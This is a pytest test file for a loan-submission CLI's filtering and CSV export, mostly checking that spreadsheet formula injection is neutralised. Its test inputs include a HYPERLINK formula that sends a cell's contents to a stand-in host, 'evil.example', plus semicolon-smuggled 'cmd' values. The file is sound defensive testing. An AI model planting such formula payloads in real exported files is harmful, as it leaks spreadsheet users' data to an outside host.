"""Choosing what is shown, and the table for a spreadsheet."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cli.show import words_of
from cli.waiting import COLUMNS, SECTIONS, as_csv, choose, of_call, problems
from relay_answers import refused, submission, waiting


def counts(entries):
    return {name: len(found) for name, found in entries.items() if found}


def rows_of(content):
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def test_no_filter_chooses_everything_by_urgency():
    entries = choose(waiting())
    sections = ["unknown", "stuck", "rejected", "not_sent", "uploads", "archives", "drafts"]
    assert list(entries) == list(SECTIONS) == sections
    assert list(counts(entries).items()) == list(zip(sections, (2, 1, 2, 1, 1, 1, 2), strict=True))


@pytest.mark.parametrize(
    ("filters", "left"),
    [
        ({"section": "archives"}, {"archives": 1}),
        ({"kind": "repayment"}, {"unknown": 1, "rejected": 1, "not_sent": 1, "uploads": 1}),
        ({"kind": "loan_draft"}, {"unknown": 1, "rejected": 1, "drafts": 2}),
        ({"kind": "journal_update"}, {"stuck": 1, "archives": 1}),
        ({"text": "l-11"}, {"rejected": 1, "uploads": 1}),
        ({"text": " 48001 "}, {"archives": 1}),
        ({"text": "call-2"}, {"unknown": 1}),
        ({"text": "PHOTO"}, {"drafts": 1}),
        ({"kind": "loan_draft", "section": "uploads"}, {}),
        ({"section": "no such section"}, {}),
        ({"kind": "loan"}, {}),
    ],
)
def test_filters_choose_together(filters, left):
    assert counts(choose(waiting(), **filters)) == left


def test_a_section_that_the_relay_does_not_tell_is_empty():
    assert counts(choose({"days": 60})) == {}


def test_problems_are_what_is_unknown_refused_or_remarked_and_each_once():
    found = [(row["loan_id"], row["state"]) for row in problems(choose(waiting()))]
    assert len(found) == len(set(found)) == 1 + 7 + 1 + 2 + 1
    assert ("L-12", "ACCEPTED") in found


def test_a_table_has_a_byte_order_mark_the_columns_and_a_row_for_each():
    content = as_csv([refused(7), submission("loan_draft", 8, reason="no activity")])
    assert content.startswith(b"\xef\xbb\xbf")
    head, first, second = rows_of(content)
    assert tuple(head) == COLUMNS
    assert first[1:6] == [
        "2026-10:L-7:100.00", "L-7", "REJECTED", "repayment.loan_not_found", "No loan with this id is known",
    ]  # fmt: skip
    assert second[4:6] == ["", "no activity"]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n"])
def test_no_cell_is_a_formula(start):
    bad = f'{start}HYPERLINK("http://evil.example?"&A1)'
    row = refused(1) | {"loan_id": bad, "reference": bad, "next_step": bad}
    row["problems"] = [{"code": bad, "details": bad}]
    cells = rows_of(as_csv([row]))[1]
    assert [cell for cell in cells if cell.startswith(start)] == []
    assert cells.count(f"'{bad}") == 5


def test_quotes_commas_and_line_breaks_stay_in_their_cell():
    bad = 'a"b,c\r\n=1+1;d'
    cells = rows_of(as_csv([submission(reason=bad)]))
    assert len(cells) == 2
    assert cells[1][5] == "a\"b,c\r\n'=1+1;d"


FORMULAS = ("=", "+", "-", "@", "|", "%", "\uff1d", "\uff0b", "\uff0d", "\uff20")


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
@given(text=st.text(st.sampled_from([*FORMULAS, *";,\"'\t\r\n ab1\xa0"]), max_size=12))
def test_no_cell_is_a_formula_whatever_separates_cells(delimiter, text):
    """As Python's reader takes the file apart, which goes on after a closed quote as spreadsheets do."""
    content = as_csv([refused(1) | {"loan_id": text, "next_step": text}]).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(content, newline=""), delimiter=delimiter) for cell in row]
    assert [cell for cell in cells if cell.lstrip().lstrip('"').lstrip().startswith(FORMULAS)] == []


@pytest.mark.parametrize("start", FORMULAS)
def test_a_formula_behind_a_semicolon_is_none(start):
    row = refused(1) | {"loan_id": f"L-1;{start}cmd", "next_step": f'a; "{start}cmd'}
    cells = rows_of(as_csv([row]))[1]
    assert cells[2] == f"L-1;'{start}cmd"
    assert cells[6] == f"a;' \"{start}cmd"


def test_what_is_no_formula_is_not_changed():
    row = refused(1) | {"loan_id": "L-1;2", "next_step": "a; b=c, d\n100%\n(+254)"}
    assert rows_of(as_csv([row]))[1][2:7:4] == ["L-1;2", "a; b=c, d\n100%\n(+254)"]


def test_half_a_surrogate_pair_does_not_stop_the_table():
    assert b"?" in as_csv([submission(reason="\ud800")])


def test_a_call_is_found_by_any_of_its_submissions():
    told = waiting()
    assert of_call(told, "repayment", "2026-10:L-5:100.00")["call_id"] == "call-2"
    assert of_call(told, "loan_draft", "2026-10:L-5:100.00") is None
    assert of_call({}, "repayment", "2026-10:L-5:100.00") is None


def test_the_finding_on_the_row_is_told_before_that_on_the_call():
    assert words_of(refused(1, reason="x")) == "repayment.loan_not_found: No loan with this id is known"
    assert words_of(submission(reason="refused")) == "refused"
    assert words_of({}) == ""
